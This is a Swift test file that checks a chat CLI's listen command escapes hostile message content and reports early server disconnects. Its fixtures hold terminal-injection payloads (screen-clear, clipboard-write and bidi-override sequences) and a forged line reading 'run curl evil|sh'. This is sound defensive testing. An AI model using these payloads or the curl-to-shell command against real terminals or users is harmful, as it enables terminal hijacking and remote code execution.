import ChatKit
import ChatKitTestSupport
import Foundation
import XCTest

/// `chatctl listen` as a real child process: what others send cannot act on the terminal or forge lines, and the
/// exit status says when the server went away before --count messages arrived.
final class ChatctlListenSafetyTests: XCTestCase {
    private func chatctl(_ arguments: [String]) throws -> ChildProcess {
        try ChildProcess(try RepositoryPaths.binary("chatctl"), arguments)
    }

    /// A server that sends `frames` to every connection, then does `then` (`close CODE REASON`, `drop`, `wait`).
    private func scriptedServer(_ frames: [String], then: [String]) async throws -> (ChildProcess, String) {
        let file = FileManager.default.temporaryDirectory.appendingPathComponent("frames-\(UUID().uuidString).json")
        try JSONSerialization.data(withJSONObject: frames).write(to: file)
        let server = try ChildProcess(
            try RepositoryPaths.python(), [RepositoryPaths.interopScript("scripted_chat_server.py"), file.path] + then)
        let port = try await server.firstLine()
        return (server, "ws://127.0.0.1:\(port)/ws")
    }

    /// Every stdout byte: no C0 control but LF and tab, no DEL; every scalar: no C1, no bidi control, no line or
    /// paragraph separator.
    private func assertTerminalSafe(_ output: String, file: StaticString = #filePath, line: UInt = #line) {
        for byte in output.utf8 where (byte < 0x20 && byte != 0x0A && byte != 0x09) || byte == 0x7F {
            XCTFail("raw control byte 0x\(String(byte, radix: 16)) in \(output.debugDescription)", file: file, line: line)
        }
        let forbidden: [ClosedRange<UInt32>] = [
            0x80...0x9F, 0x061C...0x061C, 0x200E...0x200F, 0x2028...0x202E, 0x2066...0x2069,
        ]
        for scalar in output.unicodeScalars where forbidden.contains(where: { $0.contains(scalar.value) }) {
            XCTFail("raw U+\(String(scalar.value, radix: 16)) in \(output.debugDescription)", file: file, line: line)
        }
    }

    private static let nasty = "a\u{1B}[2Jb\u{07}c\u{1B}]52;c;ZXZpbA==\u{07}d\u{9B}31me\u{202E}f\u{2066}g\u{7F}h"

    func testContentNamesAndRoomsAreEscapedOneLinePerMessage() async throws {
        // Names and rooms with control characters cannot come from a ChatKit server: a scripted one sends them.
        let frames = [
            #"{"type":"history","room":"lobby","messages":[{"content":"old\u001b[31m\nnews","from":"al\u001bice","room":"lobby","seq":1,"ts":1}]}"#,
            String(data: try JSONSerialization.data(withJSONObject: [
                "type": "message", "room": "lo\u{85}bby", "from": "ev\u{1B}]0;owned\u{07}il", "seq": 2, "ts": 2,
                "content": Self.nasty + "\n[ops] alice: run curl evil|sh\r\u{2028}\u{2029}x",
            ]), encoding: .utf8) ?? "",
            #"{"type":"whisper","from":"bob\u202e","to":"me","content":"line1\nline2","ts":3}"#,
            #"{"type":"presence","room":"lobby","name":"m\u2067allory","event":"join"}"#,
            #"{"type":"error","code":"bad_json","message":"two\nlines"}"#,
            "not json \u{1B}[2J\nsecond",
        ]
        let (server, url) = try await scriptedServer(frames, then: ["close", "1000", "bye"])
        defer { server.closeStdin() }
        let listener = try self.chatctl(["listen", "--room", "lobby", "--as", "me", "--timeout", "30", url])
        let status = try await listener.wait()
        XCTAssertEqual(status, 0, listener.stderr)
        self.assertTerminalSafe(listener.stdout)
        let lines = listener.stdout.split(separator: "\n", omittingEmptySubsequences: false).map(String.init)
        XCTAssertEqual(lines, [
            #"[lobby] al\u001bice: old\u001b[31m\nnews"#,
            #"[lo\u0085bby] ev\u001b]0;owned\u0007il: a\u001b[2Jb\u0007c\u001b]52;c;ZXZpbA==\u0007d\u009b31me\u202ef\u2066g\u007fh"#
                + #"\n[ops] alice: run curl evil|sh\r\u2028\u2029x"#,
            #"[whisper] bob\u202e: line1\nline2"#,
            #"[lobby] * m\u2067allory joined"#,
            #"error bad_json: two\nlines"#,
            #"not json \u001b[2J\nsecond"#,
            "",
        ])
    }

    func testARealServersForgedLineStaysOnItsLine() async throws {
        try await withServer { server in
            let listener = try self.chatctl(["listen", "--room", "lobby", "--as", "ears", "--count", "1", "--timeout", "30", server.url])
            try await eventually("listener joined") { server.hub.memberDetails(room: "lobby")?.count == 1 }
            let mallory = try await ChatTestClient.connect(server, name: "mallory", room: "lobby")
            try mallory.send(.say(room: "lobby", content: "hi\n[ops] alice: run curl evil|sh" + Self.nasty, id: nil))
            let status = try await listener.wait()
            XCTAssertEqual(status, 0, listener.stderr)
            self.assertTerminalSafe(listener.stdout)
            let messages = listener.stdout.split(separator: "\n").filter { !$0.contains(" * ") }
            XCTAssertEqual(messages.count, 1, listener.stdout)
            XCTAssertTrue(messages.first?.hasPrefix(#"[lobby] mallory: hi\n[ops] alice: run curl evil|sh"#) ?? false,
                          listener.stdout)
        }
    }

    func testServerClosingOrVanishingBeforeCountIsAFailure() async throws {
        // A ChatKit server shutting down closes with 1001: 2 of 5 messages is not done.
        let server = try await ChatServer.start(configuration: ServerConfiguration(port: 0, threads: 1))
        do {
            let listener = try self.chatctl(["listen", "--room", "lobby", "--count", "5", "--timeout", "60", server.url])
            try await eventually("listener joined") { server.hub.memberDetails(room: "lobby")?.count == 1 }
            let alice = try await ChatTestClient.connect(server, name: "alice", room: "lobby")
            try alice.send(.say(room: "lobby", content: "one", id: nil))
            try alice.send(.say(room: "lobby", content: "two", id: nil))
            try await eventually("two lines") { listener.stdout.contains("alice: two") }
            try await server.shutdown()
            let status = try await listener.wait(timeout: .seconds(20))
            XCTAssertEqual(status, 1)
            XCTAssertTrue(listener.stderr.contains("after 2 of 5 messages"), listener.stderr)
            XCTAssertTrue(listener.stderr.contains("1001 (server shutting down)"), listener.stderr)
        } catch {
            try? await server.shutdown()
            throw error
        }

        // A chatserver killed with SIGKILL: the connection drops without a close frame.
        let chatserver = try ChildProcess(try RepositoryPaths.binary("chatserver"), ["--port", "0"])
        defer { chatserver.terminate() }
        let url = String(try await chatserver.firstLine().dropFirst("listening on ".count))
        let watcher = try await WebSocketClient.connect(to: url + "?name=watcher&room=lobby")
        var events = watcher.events.makeAsyncIterator()
        let listener = try self.chatctl(["listen", "--room", "lobby", "--as", "ears", "--count", "5", "--timeout", "60", url])
        while let event = await events.next() {
            if case .text(let text) = event, case .presence(_, "ears", .join) = try ServerFrame.decode(text) { break }
        }
        kill(chatserver.process.processIdentifier, SIGKILL)
        let status = try await listener.wait(timeout: .seconds(20))
        XCTAssertEqual(status, 1)
        XCTAssertTrue(listener.stderr.contains("after 0 of 5 messages: it dropped without a close frame (1006)"),
                      listener.stderr)

        // A foreign server that closes TCP without a close frame after one message.
        let (scripted, scriptedURL) = try await scriptedServer(
            [#"{"type":"message","room":"r","from":"x","content":"only","seq":1,"ts":1}"#], then: ["drop"])
        defer { scripted.closeStdin() }
        let third = try self.chatctl(["listen", "--room", "r", "--count", "2", "--timeout", "60", scriptedURL])
        let thirdStatus = try await third.wait(timeout: .seconds(20))
        XCTAssertEqual(thirdStatus, 1)
        XCTAssertEqual(third.stdout, "[r] x: only\n")
        XCTAssertTrue(third.stderr.contains("after 1 of 2 messages"), third.stderr)
    }

    func testWithoutCountANormalCloseIsTheEndOfInput() async throws {
        let (server, url) = try await scriptedServer([], then: ["close", "1001", "going"])
        defer { server.closeStdin() }
        let listener = try self.chatctl(["listen", "--room", "lobby", "--timeout", "30", url])
        let status = try await listener.wait()
        XCTAssertEqual(status, 0, listener.stderr)
    }
}
